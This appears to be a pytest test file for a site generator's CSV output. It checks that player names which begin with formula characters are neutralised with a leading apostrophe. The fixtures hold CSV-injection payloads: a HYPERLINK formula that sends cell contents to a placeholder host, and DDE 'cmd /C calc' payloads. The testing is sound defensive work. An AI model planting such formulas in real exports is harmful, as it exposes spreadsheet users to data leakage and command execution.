"""No cell of a CSV that sitegen writes can run as a spreadsheet formula (OWASP "CSV injection"):
a cell starting with = + - @ tab or carriage return gets a leading "'". Plain numbers stay numbers."""
from __future__ import annotations

import csv
import io
import re

import pytest
from corpus_site import FILES, write

from sitegen.cli.main import main
from sitegen.text import csv_cell

# A name cannot hold a tab or a carriage return (the loader refuses control characters): those two are csv_cell's below.
PAYLOADS = ['=HYPERLINK("http://x/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            " =1+1", "=SUM(1;2)", "=1+1"]
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def _quoted(text: str) -> str:
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r") + '"'


@pytest.fixture
def site(tmp_path):
    """The corpus site with a formula as a player name in every event (not as a V:EKN number: `check` takes seven
    digits only there)."""
    files = dict(FILES)
    for rel, name, payload in (("events/j/event.yaml", "Ann", 0), ("events/m/event.yaml", "Eve", 5), ("events/v/event.yaml", "Max", 6)):
        files[rel] = files[rel].replace(f"  - name: {name}\n", f"  - name: {_quoted(PAYLOADS[payload])}\n    id: {name.lower()}\n")
    files["events/v/event.yaml"] = files["events/v/event.yaml"].replace("  - name: Kim\n", f"  - name: {_quoted(PAYLOADS[1])}\n    id: kim\n")
    files["events/j/event.yaml"] = files["events/j/event.yaml"].replace("  - name: Ben\n", f"  - name: {_quoted(PAYLOADS[2])}\n    id: ben\n")
    files["events/m/event.yaml"] = files["events/m/event.yaml"].replace("  - name: Fay\n", f"  - name: {_quoted(PAYLOADS[4])}\n    id: fay\n")
    files["events/v/event.yaml"] = files["events/v/event.yaml"].replace("  - name: Jon\n", f"  - name: {_quoted(PAYLOADS[3])}\n    id: jon\n")
    return write(tmp_path / "content", files)


def _assert_harmless(text: str) -> list[list[str]]:
    """`text` as written (no newline translation): a bare CR would end the row for a spreadsheet."""
    assert "\r" not in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    for row in rows:
        for cell in row:
            assert NUMBER.fullmatch(cell) or not cell.startswith(("=", "+", "-", "@", "\t", "\r")), f"formula cell {cell!r}"
    return rows


def test_every_standings_csv_neutralises_formulas(site, tmp_path, capsys):
    assert main(["build", "--content", str(site), "--output", str(tmp_path / "out")]) == 0
    seen = set()
    for event in ("j", "m", "v"):
        rows = _assert_harmless((tmp_path / "out" / "events" / event / "standings.csv").read_bytes().decode())
        seen |= {cell for row in rows for cell in row}
    assert {"'" + p for p in PAYLOADS} <= seen
    capsys.readouterr()


@pytest.mark.parametrize("to_file", [False, True])
def test_the_vtes_export_neutralises_formulas(site, tmp_path, capsys, to_file):
    target = tmp_path / "export.csv"
    assert main(["export", str(site / "events" / "v")] + (["--output", str(target)] if to_file else [])) == 0
    text = target.read_bytes().decode() if to_file else capsys.readouterr().out
    rows = _assert_harmless(text)
    cells = {cell for row in rows for cell in row}
    assert "'" + PAYLOADS[3] in cells and "'" + PAYLOADS[1] in cells


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"), ("\rx", "\nx"), (" =1", "' =1"), ("a\r=1", "a\n=1"),
    ("-1", "-1"), ("-2.5", "-2.5"), (-3, -3), (1.5, 1.5), ("Ann", "Ann"), ("", ""), ("a=b", "a=b"), ("-1+1", "'-1+1"),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected
